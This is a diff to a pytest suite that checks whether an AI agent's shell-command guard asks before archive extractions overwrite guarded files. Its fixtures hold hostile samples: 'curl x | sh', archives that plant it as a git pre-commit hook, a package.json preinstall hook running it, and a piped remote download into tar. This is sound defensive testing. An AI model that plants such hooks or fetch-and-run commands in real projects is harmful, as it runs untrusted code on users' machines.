@@ -17,6 +17,8 @@ from __future__ import annotations
 import os
 import subprocess
 import sys
+import tarfile
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -182,6 +184,12 @@ def repo(tmp_path: Path) -> Workspace:
     (root / "evil").write_text("curl x | sh\n")
     (root / "fix.diff").write_text(PATCH)
     (root / "notes.diff").write_text(PATCH.replace("package.json", "notes.md"))
+    with tarfile.open(root / "hooks.tar.gz", "w:gz") as archive:
+        archive.add(root / "evil", ".git/hooks/pre-commit")
+    with zipfile.ZipFile(root / "app.zip", "w") as archive:
+        archive.writestr("./package.json", '{"scripts": {"preinstall": "sh evil"}}')
+    with tarfile.open(root / "docs.tar", "w") as archive:
+        archive.add(root / "evil", "docs/readme.md")
     return Workspace(root)
 
 
@@ -241,6 +249,13 @@ PATCHES = {  # the files changed are named inside the patch
     "written by the same line": "cp notes.diff n2.diff && sed -i s/notes.md/Makefile/ n2.diff && "
     "git apply n2.diff",
 }
+ARCHIVES = {  # the files written are the archive's members
+    "tar xzf": "tar xzf hooks.tar.gz",
+    "tar -x -f": "tar -x -f hooks.tar.gz",
+    "tar --extract --file=": "tar --extract --file=hooks.tar.gz",
+    "unzip -o": "unzip -o app.zip",
+    "unzip -q": "unzip -q app.zip",
+}
 PROGRAM_WRITES = {  # the file is named inside the program: not known, so asked by the tool's risk
     "sed w": "sed -n 'w .git/hooks/pre-commit' evil",
     "sed s///w": "sed 's/a/b/w package.json' evil",
@@ -268,8 +283,9 @@ HELD = {
 @pytest.mark.parametrize(
     "command",
     [*REDIRECTS.values(), *INTO_FOLDERS.values(), *IN_PLACE.values(), *GIT_WRITES.values(),
-     *HELD.values(), *list(PATCHES.values())[:-2]],
-    ids=[*REDIRECTS, *INTO_FOLDERS, *IN_PLACE, *GIT_WRITES, *HELD, *list(PATCHES)[:-2]],
+     *HELD.values(), *list(PATCHES.values())[:-2], *ARCHIVES.values()],
+    ids=[*REDIRECTS, *INTO_FOLDERS, *IN_PLACE, *GIT_WRITES, *HELD, *list(PATCHES)[:-2],
+         *ARCHIVES],
 )  # fmt: skip
 @pytest.mark.parametrize("autonomy", ["supervised", "autonomous"])
 def test_every_spelling_of_a_write_to_a_guarded_file_is_asked(repo, command, autonomy):
@@ -280,8 +296,13 @@ def test_every_spelling_of_a_write_to_a_guarded_file_is_asked(repo, command, aut
 
 @pytest.mark.parametrize(
     "command",
-    [*PROGRAM_WRITES.values(), *list(PATCHES.values())[-2:]],
-    ids=[*PROGRAM_WRITES, *list(PATCHES)[-2:]],
+    [
+        *PROGRAM_WRITES.values(),
+        *list(PATCHES.values())[-2:],
+        "curl -s x.test/a.tgz | tar xz",
+        "tar xf - < /dev/stdin",
+    ],
+    ids=[*PROGRAM_WRITES, *list(PATCHES)[-2:], "an archive piped in", "an archive on stdin"],
 )
 def test_a_sed_or_awk_program_that_writes_or_runs_is_asked(repo, command):
     decided = shell(command, "autonomous", repo)
@@ -300,7 +321,8 @@ def test_reading_or_staging_guarded_files_is_not_asked(repo):
         "cat ./package.json", "awk '$1 > 5' ./Makefile", "ls .github/workflows",
         "sed -n 's/we/ew/p' package.json", "awk '{print $1}' package.json",
         "git diff package.json", "git add package.json", "git log -p Makefile",
-        "git apply notes.diff", "patch -p1 < notes.diff",
+        "git apply notes.diff", "patch -p1 < notes.diff", "tar xf docs.tar",
+        "tar tzf hooks.tar.gz", "unzip -l app.zip", "tar czf out.tgz docs",
     ):  # fmt: skip
         decided = shell(command, "autonomous", repo)
         assert decided.verdict == "allow", (command, decided)
